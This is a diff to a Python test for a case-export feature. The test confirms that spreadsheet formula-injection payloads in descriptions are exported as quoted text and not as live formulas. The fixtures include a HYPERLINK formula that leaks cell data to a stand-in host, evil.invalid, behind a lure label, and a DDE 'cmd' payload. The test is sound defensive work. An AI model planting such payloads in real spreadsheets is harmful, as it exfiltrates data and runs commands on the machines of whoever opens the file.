@@ -10,8 +10,8 @@ from datetime import date, datetime, timezone
 import openpyxl
 
 from bot.bootstrap import App
-from bot.reporting import Column, Report, Table, export_cases, to_csv, to_xlsx
 from cases.lifecycle import Actor, Case
+from services.reports.statistics import Column, Report, Table, export_cases, to_csv, to_xlsx
 
 FORMULA = '=HYPERLINK("http://evil.invalid/?"&J2&K2,"点此查看照片")'
 HOSTILE = [FORMULA, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]
@@ -35,7 +35,7 @@ async def test_a_formula_in_a_description_is_text_in_the_workbook_and_quoted_in_
     day = app.now().astimezone(timezone.utc).date()
     period = (date.fromordinal(day.toordinal() - 1), date.fromordinal(day.toordinal() + 2))
 
-    book = openpyxl.load_workbook(io.BytesIO(await export_cases(app, *period, "xlsx")))
+    book = openpyxl.load_workbook(io.BytesIO(await export_cases(app.uow(), *period, "xlsx", now=app.now())))
     sheet = book["Cases"]
     header = [c.value for c in sheet[1]]
     described = {row[0].value: row[header.index("description")] for row in sheet.iter_rows(min_row=2)}
@@ -45,7 +45,7 @@ async def test_a_formula_in_a_description_is_text_in_the_workbook_and_quoted_in_
         assert cell.data_type == "s" and cell.value.strip() == text.strip() and cell.quotePrefix
     assert all(c.data_type != "f" for ws in book.worksheets for row in ws.iter_rows() for c in row)
 
-    rows = list(csv.DictReader(io.StringIO((await export_cases(app, *period, "csv")).decode("utf-8-sig"))))
+    rows = list(csv.DictReader(io.StringIO((await export_cases(app.uow(), *period, "csv", now=app.now())).decode("utf-8-sig"))))
     by_id = {int(r["case"]): r for r in rows}
     for case_id, text in zip(ids, HOSTILE):
         assert by_id[case_id]["description"] == "'" + text.strip()  # the desk trims what owners type
